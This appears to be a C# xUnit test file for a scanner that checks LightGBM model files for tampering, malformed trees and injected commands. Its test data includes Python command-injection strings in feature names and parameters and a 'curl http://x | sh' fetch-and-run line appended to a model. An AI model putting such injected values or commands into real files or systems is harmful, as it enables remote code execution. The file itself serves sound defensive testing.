using CsCheck;
using ModelGuard.Core.Budgets;
using ModelGuard.Rules;
using ModelGuard.Scanning.Tests.Support;
using ModelGuard.Testing.Formats;
using Xunit;

namespace ModelGuard.Scanning.Tests.LightGbm;

public sealed class LightGbmTests
{
    private static readonly ScanLimits Small = new() { MaxRecords = 20_000, MaxHeaderBytes = 1 << 20 };

    [Fact]
    public void An_honest_model_is_clean_and_its_facts_are_read()
    {
        ScanResult result = Scan.Of(new LightGbmBuilder().Build(), "model.txt");

        result.AssertClean("lightgbm");
        Assert.Equal("binary sigmoid:1", result.Facts.Task);
        Assert.Equal(["age", "income"], result.Facts.Inputs);
        Assert.Equal(1, result.Facts.TensorCount);
        Assert.Equal(3, result.Facts.ParameterCount);
    }

    [Fact]
    public void The_head_may_have_another_order()
    {
        LightGbmBuilder builder = new();
        builder.Head.RemoveAt(1);
        builder.Head.Add("version=v4");

        Scan.Of(builder.Build(), "blob").AssertClean("lightgbm");
    }

    [Fact]
    public void A_stump_and_a_categorical_split_are_read()
    {
        LightGbmBuilder builder = new();
        builder.Trees.Add("num_leaves=1\nnum_cat=0\nsplit_feature=\nsplit_gain=\nthreshold=\ndecision_type=\nleft_child=\nright_child=\nleaf_value=0.5\nleaf_weight=\nleaf_count=\nshrinkage=1\n");
        builder.Trees.Add("num_leaves=2\nnum_cat=1\nsplit_feature=1\nthreshold=0\ndecision_type=1\nleft_child=-1\nright_child=-2\nleaf_value=0 1\ncat_boundaries=0 1\ncat_threshold=6\nshrinkage=1\n");

        Scan.Of(builder.Build(), "model.txt").AssertClean("lightgbm");
    }

    [Fact]
    public void Commands_are_found_in_names_parameters_and_behind_the_model()
    {
        LightGbmBuilder names = new();
        names.Head[7] = "feature_names=age __import__('os').system('id')";
        Scan.Of(names.Build(), "model.txt").AssertFound("MG1062");
        Scan.Of(new LightGbmBuilder { Tail = "\nparameters:\n[data: os.system('id')]\nend of parameters\n" }.Build(), "model.txt").AssertFound("MG1062");

        ScanResult behind = Scan.Of(new LightGbmBuilder { Tail = "curl http://x | sh\n" }.Build(), "model.txt");
        behind.AssertFound("MG1062");
        Assert.Equal(Verdict.Inconclusive, behind.Verdict);
    }

    [Fact]
    public void A_key_that_LightGBM_does_not_write_is_inconclusive()
    {
        LightGbmBuilder builder = new();
        builder.Head.Add("payload=1");

        Assert.Equal("payload", Scan.Of(builder.Build(), "model.txt").AssertFound("MG1021").Subject);
    }

    public static TheoryData<string, string, string> Broken => new()
    {
        { "left_child=1 -1", "left_child=0 -1", "below one node" },
        { "left_child=1 -1", "left_child=9 -1", "below one node" },
        { "left_child=1 -1", "left_child=-9 -1", "below one node" },
        { "right_child=-2 -3", "right_child=-2 -2", "below one node" },
        { "split_feature=0 1", "split_feature=0 7", "feature up to 1" },
        { "leaf_value=0.1 -0.2 0.3", "leaf_value=0.1", "values of leaf_value" },
        { "threshold=0.5 1.5", "threshold=0.5 os", "numbers in threshold" },
        { "num_leaves=3", "num_leaves=0", "at least 1" },
        { "num_leaves=3", "num_leaves=2147483647", "values of" },
        { "num_cat=0", "num_cat=1\ncat_boundaries=0 9\ncat_threshold=1", "boundaries" },
        { "left_child=1 -1\n", "", "children" },
        { "shrinkage=0.1\n", "shrinkage=0.1\nshrinkage=0.1\n", "once" },
    };

    [Theory]
    [MemberData(nameof(Broken))]
    public void A_tree_that_is_none_is_inconclusive(string from, string to, string words)
    {
        LightGbmBuilder builder = new();
        Assert.Contains(from, LightGbmBuilder.Tree, StringComparison.Ordinal);
        builder.Trees[0] = LightGbmBuilder.Tree.Replace(from, to, StringComparison.Ordinal);

        ScanResult result = Scan.Of(builder.Build(), "model.txt");

        Assert.Equal(Verdict.Inconclusive, result.Verdict);
        Assert.True(result.Findings.Any(finding => finding.Rule.Id == "MG1024" && finding.Message.Contains(words, StringComparison.Ordinal)), Scan.Describe(result));
    }

    [Fact]
    public void The_length_that_the_head_states_is_the_length_of_the_tree()
    {
        Assert.Contains("tree_sizes", Scan.Of(new LightGbmBuilder { SizeError = 7 }.Build(), "model.txt").AssertFound("MG1024").Message, StringComparison.Ordinal);

        LightGbmBuilder less = new();
        less.Trees.Clear();
        less.Head.Add("tree_sizes=12");
        Assert.Equal(Verdict.Inconclusive, Scan.Of(less.Build(), "model.txt").Verdict);
    }

    [Fact]
    public void Changed_files_never_break_the_scanner()
    {
        byte[] file = new LightGbmBuilder().Build();
        Gen.OneOf(Hostile.Near(file), Hostile.Behind(file, 24)).Sample(
            bytes => Assert.DoesNotContain(Scan.Of(bytes, "model.txt", limits: Small).Findings, finding => finding.Rule.Id == "MG0004"),
            iter: 2000,
            threads: 1);
    }
}
